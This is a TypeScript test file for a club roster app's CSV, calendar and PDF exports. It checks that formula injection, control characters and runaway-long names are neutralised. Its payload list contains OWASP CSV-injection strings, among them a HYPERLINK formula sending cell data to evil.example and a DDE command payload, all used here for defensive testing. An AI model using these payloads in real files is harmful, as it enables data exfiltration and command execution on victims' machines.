import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ICAL from 'ical.js';
import type { ExportFormat, PublishedView } from '../../../main/api/contract.ts';
import { EXPORT_TEXT } from '../../../main/export/common.ts';
import { renderExport } from '../../../main/export/index.ts';
import { decemberView, viewIcs } from './views.ts';

/**
 * Names and titles chosen to attack the files members open: spreadsheet formulas, control characters and
 * names far longer than anyone types. Every file is parsed back with a real parser (csv-parse, ical.js, poppler).
 */

const GENERATED = new Date('2026-11-28T12:05:00Z');
const dir = mkdtempSync(join(tmpdir(), 'rostermeister-hostile-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** The OWASP CSV injection payloads: each starts with a character a spreadsheet treats as a formula. */
const FORMULAS = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+2',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  "=cmd|' /C calc'!A0",
  '-@cmd',
  '+\tcall()',
];

/** December's view with every holder renamed by `name(i)` and the first role retitled. */
function renamed(name: (i: number) => string, roleTitle = 'Duty officer', clubName = 'Skyhigh Gliding Club'): PublishedView {
  const view = decemberView();
  let i = 0;
  return {
    ...view,
    clubName,
    roles: view.roles.map((role, r) => (r === 0 ? { ...role, title: roleTitle } : role)),
    days: view.days.map((day) => ({
      ...day,
      slots: day.slots.map((slot) => (slot.memberId === null ? slot : { ...slot, memberName: name(i++) })),
    })),
  };
}

async function exported(view: PublishedView, format: ExportFormat): Promise<Buffer> {
  if (format === 'ics') return viewIcs(view, GENERATED);
  return (await renderExport(view, { year: 2026, month: 12, format }, GENERATED)).bytes;
}

function cells(bytes: Buffer): string[] {
  const rows: string[][] = parse(bytes, { bom: true });
  return rows.flat();
}
const FORMULA_START = /^[=+\-@\t\r\n]/;

describe('CSV exports neutralise formulas', () => {
  for (const format of ['csv', 'csv-long', 'dutyman'] as const) {
    it(`${format}: no cell starts like a formula; each payload survives as text behind an apostrophe`, async () => {
      const view = renamed((i) => FORMULAS[i % FORMULAS.length], '=Role()');
      const parsed = cells(await exported(view, format));
      const dangerous = parsed.filter((cell) => FORMULA_START.test(cell));
      assert.deepEqual(dangerous, []);
      // DutyMan's file splits names and cuts them to its column widths, so there only the start is checked.
      if (format === 'dutyman') assert.ok(parsed.filter((cell) => cell.startsWith("'")).length >= FORMULAS.length);
      else
        for (const payload of FORMULAS) assert.ok(parsed.includes(`'${payload}`), `${JSON.stringify(payload)} is exported as '${payload}`);
      assert.ok(parsed.includes("'=Role()"), 'role titles too');
    });
  }

  it('leaves ordinary names, dates and ids exactly as they are', async () => {
    const parsed = cells(await exported(decemberView(), 'csv-long'));
    assert.ok(parsed.includes('2026-12-05'));
    assert.ok(parsed.includes('Zoë Müller'));
    assert.ok(!parsed.some((cell) => cell.startsWith("'")));
  });
});

describe('control characters never reach a calendar or a PDF', () => {
  const CONTROLS = 'Ann\u0000a\u0007 Bell\u001b[31m\u007f\u0085';

  it('ICS: NUL, BEL, ESC, DEL and C1 are dropped; the calendar parses', async () => {
    const bytes = await exported(
      renamed(() => CONTROLS, 'Duty\u0000officer', 'Club\u0007'),
      'ics',
    );
    // eslint-disable-next-line no-control-regex -- control characters are what must be absent
    assert.doesNotMatch(bytes.toString('utf8'), /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
    const calendar = new ICAL.Component(ICAL.parse(bytes.toString('utf8')) as unknown[]);
    const summaries = calendar.getAllSubcomponents('vevent').map((event) => String(event.getFirstPropertyValue('summary')));
    assert.ok(summaries.includes('Dutyofficer: Anna Bell[31m – Club'), summaries[0]);
  });

  it('PDF: the text poppler reads holds no control characters', async () => {
    const path = join(dir, 'controls.pdf');
    writeFileSync(
      path,
      await exported(
        renamed(() => CONTROLS),
        'pdf',
      ),
    );
    const text = execFileSync('pdftotext', ['-enc', 'UTF-8', path, '-'], { encoding: 'utf8' });
    assert.match(text, /Anna Bell\[31m/);
    // eslint-disable-next-line no-control-regex -- control characters are what must be absent
    assert.doesNotMatch(text.replace(/[\n\f]/g, ''), /[\u0000-\u001f\u007f-\u009f]/);
  });
});

describe('runaway names degrade to an ellipsis', () => {
  const HUGE = 'Bartholomew '.repeat(100_000 / 12);

  it('PDF: a 100,000-character name prints cut to the cell with an ellipsis', async () => {
    const path = join(dir, 'long.pdf');
    const bytes = await exported(
      renamed((i) => (i === 0 ? HUGE : 'Pat')),
      'pdf',
    );
    writeFileSync(path, bytes);
    const text = execFileSync('pdftotext', ['-enc', 'UTF-8', path, '-'], { encoding: 'utf8' });
    assert.match(text, /Bartholomew…/);
    assert.match(execFileSync('pdfinfo', [path], { encoding: 'utf8' }), /^Pages:\s+1$/m, 'one page, as for short names');
    assert.ok(text.length < 5_000, `${text.length} characters of text`);
  });

  it('ICS and CSV: the name is cut, the file stays small and parses', async () => {
    const view = renamed((i) => (i === 0 ? HUGE : 'Pat'), 'T'.repeat(50_000), 'C'.repeat(50_000));
    const ics = await exported(view, 'ics');
    assert.ok(ics.length < 200_000, `${ics.length} bytes of ICS`);
    const summaries = new ICAL.Component(ICAL.parse(ics.toString('utf8')) as unknown[])
      .getAllSubcomponents('vevent')
      .map((event) => String(event.getFirstPropertyValue('summary')));
    assert.ok(summaries.some((s) => s.includes('Bartholomew…')));
    const csv = await exported(view, 'csv');
    const longest = Math.max(...cells(csv).map((cell) => [...cell].length));
    assert.equal(longest, EXPORT_TEXT.csv);
  });
});
